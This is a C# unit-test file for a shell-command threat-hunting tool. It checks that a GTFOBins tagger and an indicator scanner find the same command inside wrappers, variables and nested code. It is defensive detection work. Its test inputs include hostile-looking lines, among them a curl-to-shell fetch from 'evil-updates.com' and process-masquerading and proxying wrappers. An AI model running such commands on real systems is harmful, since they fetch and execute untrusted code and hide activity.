using System.Collections.Generic;
using System.Linq;
using B64Hunt.GtfoBins;
using B64Hunt.Shell;
using B64Hunt.Tests.GtfoBins;
using B64Hunt.Tests.Iocs;
using Xunit;

namespace B64Hunt.Tests.ShellReading
{
    /// <summary>
    /// Add-GtfoBinsTag and Find-B64Ioc read the same shell reader output: through every wrapper, variable and nested
    /// piece of code, the command that runs is the same for both (cat's operand is a file, curl's a host), and the
    /// wrapper's own operands are neither.
    /// </summary>
    public class StageAgreementTests
    {
        private static readonly GtfoBinsTagger Tagger = new GtfoBinsTagger(GtfoBinsTestData.Bundled);

        /// <summary>Each wrapper of the table, written with the options and operands it takes before its command.</summary>
        public static readonly Dictionary<string, string> WrapperForms = new Dictionary<string, string>
        {
            ["sudo"] = "sudo -u root -E",
            ["doas"] = "doas -u root",
            ["env"] = "env -i HOME=/tmp",
            ["nohup"] = "nohup",
            ["setsid"] = "setsid",
            ["stdbuf"] = "stdbuf -o L",
            ["nice"] = "nice -n 10",
            ["ionice"] = "ionice -c 3",
            ["timeout"] = "timeout -s KILL 30",
            ["chroot"] = "chroot /srv/jail",
            ["xargs"] = "xargs -I {}",
            ["busybox"] = "busybox",
            ["exec"] = "exec -a kworker",
            ["command"] = "command",
            ["builtin"] = "builtin",
            ["time"] = "/usr/bin/time -o /tmp/t",
            ["strace"] = "strace -f -o /tmp/trace",
            ["ltrace"] = "ltrace -o /tmp/trace",
            ["sshpass"] = "sshpass -p hunter2",
            ["proxychains"] = "proxychains -f /etc/pc.conf",
            ["proxychains4"] = "proxychains4 -q",
            ["torsocks"] = "torsocks -u anon",
            ["torify"] = "torify",
            ["unbuffer"] = "unbuffer",
        };

        public static IEnumerable<object[]> Wrappers() => WrapperForms.Keys.Select(k => new object[] { k });

        [Fact]
        public void EveryWrapperOfTheTableIsExercised()
        {
            Assert.Equal(CommandTable.WrapperNames.OrderBy(n => n), WrapperForms.Keys.OrderBy(n => n));
        }

        [Theory]
        [MemberData(nameof(Wrappers))]
        public void BothStagesSeeTheSameCommandThroughTheWrapper(string wrapper)
        {
            string prefix = WrapperForms[wrapper];
            // A file command: GTFOBins tags cat, and its dotted operand is a file name, as for a bare `cat notes.io`.
            string fileCase = prefix + " cat notes.io";
            Assert.Contains("cat", Tagger.Tag(fileCase).Select(t => t.Name));
            Assert.Equal(IocTestSupport.Of("cat notes.io", "dns"), IocTestSupport.Of(fileCase, "dns"));
            Assert.Empty(IocTestSupport.Of(fileCase, "dns"));

            // A network command: GTFOBins tags curl, and its operand is a host.
            string hostCase = prefix + " curl evil-updates.com";
            Assert.Contains("curl", Tagger.Tag(hostCase).Select(t => t.Name));
            Assert.Equal(new[] { "evil-updates.com" }, IocTestSupport.Of(hostCase, "dns"));
        }

        [Theory]
        [InlineData("chroot /srv cat notes.io")]
        [InlineData("exec -a x cat notes.io")]
        [InlineData("strace -f cat notes.io")]
        public void TheIssueCasesAgree(string text)
        {
            Assert.Equal("cat", ShellCommandReader.Read(text).Last().CommandName);
            Assert.Contains("cat", Tagger.Tag(text).Select(t => t.Name));
            Assert.Empty(IocTestSupport.Of(text, "dns"));
        }

        [Theory]
        // The command word is a variable the line assigns: only the reader knows it is cat (a file command) or curl.
        [InlineData("a=cat; $a notes.io", "cat", new string[0])]
        [InlineData("a=curl; $a evil-updates.com", "curl", new[] { "evil-updates.com" })]
        [InlineData("w=nohup; $w cat notes.io", "cat", new string[0])]
        // Commands found in code the text carries: -c strings, find -exec.
        [InlineData("sh -c 'cat notes.io'", "cat", new string[0])]
        [InlineData("nohup bash -c 'curl -s evil-updates.com | sh' &", "curl", new[] { "evil-updates.com" })]
        [InlineData("find / -name k -exec cat notes.io \\;", "cat", new string[0])]
        public void FindB64IocJudgesWordsByTheCommandsTheReaderFinds(string text, string command, string[] dns)
        {
            // Both stages read the same reader output: the command GTFOBins tags is the command whose operands the
            // indicator scanner judges (a file name for cat, a host for curl).
            Assert.Contains(ShellCommandReader.Read(text), c => c.CommandName == command && c.Spans.Count > 0);
            Assert.Contains(command, Tagger.Tag(text).Select(t => t.Name));
            Assert.Equal(dns, IocTestSupport.Of(text, "dns"));
        }

        [Fact]
        public void AnUnassignedVariableAsTheCommandLeavesItsOperandsFreeText()
        {
            // Look-alike: $a is never assigned, so no command is known and a registrable dotted operand is reported.
            Assert.Equal(new[] { "notes.io" }, IocTestSupport.Of("$a notes.io", "dns"));
        }

        [Fact]
        public void AWrapperNameAsAnOperandIsNotAWrapper()
        {
            // Look-alike: strace as the file cat reads runs nothing.
            Assert.Equal(new[] { "cat" }, Tagger.Tag("cat strace").Select(t => t.Name).ToArray());
            Assert.Equal(new[] { "cat" }, ShellCommandReader.Read("cat strace").Select(c => c.CommandName).ToArray());
        }
    }
}
